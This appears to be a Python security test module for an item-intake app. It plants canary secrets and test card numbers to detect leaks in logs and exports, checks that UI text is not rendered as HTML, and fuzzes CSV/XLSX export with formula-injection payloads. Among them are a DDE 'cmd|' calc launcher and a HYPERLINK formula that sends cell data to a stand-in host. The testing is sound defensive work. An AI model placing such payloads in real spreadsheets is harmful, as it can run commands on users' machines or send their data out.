"""G10: secrets are nowhere but in the keyring, foreign text is never rendered, and no exported cell is a formula."""

import base64
import csv
import io
import json
import os
import random
import subprocess
import sys
import zipfile
from pathlib import Path
from urllib.parse import quote
from xml.etree import ElementTree as ET

from g01_kills import WISHES, WORDS, environment, make_items
from practice_services import ROOT, practice_services
from rows import Asked, Figure, Row

from app.pipeline import export

sys.path.insert(0, str(ROOT / "tests" / "app" / "ui"))

HERE = Path(__file__).parent
SECRET_SETTINGS = (
    "RESALE_X_CLIENT_SECRET",
    "RESELLERIO_PASSWORD",
    "RESELL_SCAN_API_KEY",
    "FASHIONPHILE_PASSWORD",
    "REPURCH_API_KEY",
)
CARDS = ("4111 1111 1111 1111", "5500-0000-0000-0004", "340000000000009", "6011000000000004", "30000000000004")
HANDED_OUT = ("X-Amz-Signature=", "X-Amz-Credential=")
CARD_AS_A_NUMBER = 4012888888881881
TYPED_CARDS = ("4012 0000 3333 0026", "5105105105105100")
"""What a person types by mistake: refused, and nowhere afterwards."""
PLANTED_DEEP = 24
TOLD_BACK = 23


def spelled(secret: str) -> set[bytes]:
    """Return how a secret may be written: as it is, for an address, in JSON, in base64 wherever it stands in a text."""
    raw = secret.encode()
    found = {raw, quote(secret, safe="").encode(), json.dumps(secret).encode()[1:-1], raw.hex().encode()}
    for before in range(3):
        packed = base64.b64encode(b"x" * before + raw)
        # The first and the last characters hold bits of what stands beside.
        found.add(packed[4 if before else 0 : -4])
    return {one for one in found if len(one) >= 6}


def told_back(planted: list[str]) -> list[dict[str, object]]:
    """Return refusals in which each service says secrets back, in the shapes that a careless one might choose."""
    first, cards = iter(planted), iter(CARDS)

    def said() -> str:
        return (
            f"no: Authorization: Bearer {next(first)} https://x.example/o?X-Amz-Signature={next(first)}&z=1 "
            f"client_secret={next(first)} token: {next(first)} card {next(cards)}. Sorry"
        )

    beside = {
        "password": next(first),
        "api_key": next(first),
        "details": [{"cookie": next(first)}],
        "paid": CARD_AS_A_NUMBER,
    }
    refusals = (
        ("resale-x", "create_task", 422, {"message": said(), **beside}),
        ("resellerio", "create_product", 422, {"error": {"code": "invalid", "detail": said(), **beside}}),
        ("resell-scan", "create_and_analyze", 400, {"message": said(), **beside}),
        ("fashionphile", "GET /products", 400, {"message": said(), **beside}),
        ("repurch", "upload_photo", 400, {"code": "validation_failed", "message": said(), **beside}),
    )
    return [
        {"service": service, "op": op, "times": 1, "do": "status", "status": status, "body": body}
        for service, op, status, body in refusals
    ]


def leaked(asked: Asked) -> tuple[int, list[str]]:
    """Let the program work with planted secrets among services that say them back; return how many, and what was found."""
    chance = random.Random(asked.seed)
    folder = asked.folder / "secrets"
    folder.mkdir()
    planted = [
        f"canary{number}Q{chance.getrandbits(64):016x}"
        for number in range(PLANTED_DEEP + TOLD_BACK + len(SECRET_SETTINGS))
    ]
    deep, back, given = planted[:PLANTED_DEEP], planted[PLANTED_DEEP:-5], planted[-5:]
    make_items(folder / "in", 1 if asked.short else 4)
    noted = folder / "noted.txt"
    with practice_services(folder) as practice:
        practice.misbehave(*told_back(back), task_seconds=0.1, run_seconds=0.1, batch_seconds=0.1, logins_per_minute=0)
        settings = {**environment(folder, practice), "INTAKE_LOG_DIR": str(folder / "log"), "PYTHONPATH": str(ROOT)}
        settings |= {"INTAKE_SETTLE_S": "0.2", "INTAKE_REQUEST_TIMEOUT_S": "3"}
        for name, secret in zip(SECRET_SETTINGS, given, strict=True):
            before = settings[f"INTAKE_{name}"]
            settings[f"INTAKE_{name}"] = before[: before.rfind("_") + 1] + secret
        words = [part for word in WORDS for part in ("--set", word)]
        commands = [
            ["intake", str(folder / "in"), *WISHES.split(), *words, "--wait", "6" if asked.short else "30", "--json"],
            *(
                ["intake", str(folder / "in"), "--set", f"{field}=paid by {card}.", "--json"]
                for field, card in zip(("description", "title"), TYPED_CARDS, strict=True)
            ),
            ["queue", "--json"],
            ["doctor", "--json"],
            ["export", "--csv", str(folder / "data" / "out.csv")],
            ["items"],
        ]
        done = subprocess.run(
            [sys.executable, str(HERE / "secret_hunt.py"), str(noted), str(int(asked.protected)),
             json.dumps(commands), json.dumps(deep)],
            cwd=ROOT, env=settings, stdin=subprocess.DEVNULL, capture_output=True, timeout=240, check=False,
        )  # fmt: skip
    written = {"stdout": done.stdout, "stderr": done.stderr}
    for place in ("data", "log"):
        for file in (folder / place).rglob("*"):
            if file.is_file():
                written[str(file.relative_to(folder))] = file.read_bytes()
    assert any(name.startswith("log/crashes") for name in written), done.stderr.decode()
    learned = set(noted.read_text(encoding="utf-8").split("\n")) - {""} if noted.exists() else set()
    refused = done.stdout.count(b"payment card number") + done.stderr.count(b"payment card number")
    secrets = {*planted, *learned, *HANDED_OUT, *CARDS, *TYPED_CARDS, str(CARD_AS_A_NUMBER)}
    found = [
        f"{secret[:10]}… in {name}"
        for secret in sorted(secrets)
        for name, content in written.items()
        if any(spelling in content for spelling in spelled(secret))
    ]
    if refused < len(TYPED_CARDS):
        found.append("a typed card number was not refused")
    if b"made a mistake" in done.stdout:
        found.append("the station made a mistake on the way")
    return len(secrets), found


CELL_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0+",
    "\u3000@",
    "＝",
    "＋",
    "－",
    "＠",
    "a\n=",
    "b\r\n-",
)
CELL_RESTS = (
    "1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"go")', "SUM(A1:A9)", "http://x.example/a",
    "mailto:a@x.example", "1e9", "007", "x" * 300, "\0", "half \ud800", "'", '","', "<f>1</f>", "&amp;",
)  # fmt: skip
DANGEROUS = frozenset("=+-@＝＋－＠")


def formulas(asked: Asked) -> tuple[int, list[str]]:
    """Export cells that would like to be formulas; return how many, and those that a spreadsheet would run."""
    from ui_views import person, view

    chance = random.Random(asked.seed)
    count = 100 if asked.short else 1000
    cells = [chance.choice(CELL_STARTS) + chance.choice(CELL_RESTS) for _ in range(count)]
    names = ("title", "brand", "category", "model", "color", "condition")
    views = [
        view(values={name: person(text) for name, text in zip(names, cells[at : at + len(names)], strict=False)})
        for at in range(0, count, len(names))
    ]
    table, book = asked.folder / "out.csv", asked.folder / "out.xlsx"
    safe = export.safe_cell
    if not asked.protected:
        export.safe_cell = export._whole
    try:
        export.write_csv(table, views)
    finally:
        export.safe_cell = safe
    export.write_xlsx(book, views)
    wrong = []
    text = table.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    for row, written in zip(rows, export.export_rows(views), strict=True):
        for cell, given in zip(row, written, strict=True):
            if any(line.strip()[:1] in DANGEROUS for line in cell.splitlines() if line.strip()):
                wrong.append(f"CSV {cell!r}")
            elif cell.replace("'", "") != export._whole(given).replace("'", ""):
                wrong.append(f"CSV changed {given!r}")
    with zipfile.ZipFile(book) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml").decode()
        shared = ET.fromstring(packed.read("xl/sharedStrings.xml"))
    if "<f>" in sheet or "hyperlink" in sheet:
        wrong.append("XLSX holds a formula or a link")
    kept = {"".join(one.itertext()).replace("_x000D_", "\r") for one in shared}
    wrong += [f"XLSX lost {cell!r}" for cell in cells if export._whole(cell) not in kept]
    return count, wrong


def rendered(asked: Asked) -> tuple[int, list[str]]:
    """Show HTML in every field of the window; return how many strings, and those that it took for HTML."""
    done = subprocess.run(
        [sys.executable, str(HERE / "rich_hunt.py"), "500", str(int(asked.protected)), str(asked.folder / "window")],
        cwd=ROOT, env={**os.environ, "QT_QPA_PLATFORM": "offscreen", "PYTHONPATH": str(ROOT)},
        stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=240, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    said = json.loads(done.stdout.splitlines()[-1])
    return int(said["shown"]), list(said["rendered"])


def run(asked: Asked) -> Row:
    """Hunt for secrets, for rendered text (in the short form its own test does) and for formulas."""
    secrets, leaks = leaked(asked)
    strings, rich = (0, []) if asked.short else rendered(asked)
    cells, live = formulas(asked)
    found = {"leaks": leaks, "rendered": rich, "formulas": live}
    tried = f"{secrets} secrets, {strings} strings in the window, {cells} exported cells"
    said = "; ".join(f"{len(wrong)} {name}: {', '.join(wrong[:4])}" for name, wrong in found.items() if wrong)
    return Row(tried, None, None, "0 leaked, 0 rendered, 0 formulas" if not said else "", said)


FIGURE = Figure("G10", "no secret outside the keyring, no foreign text rendered, no cell a formula", run)
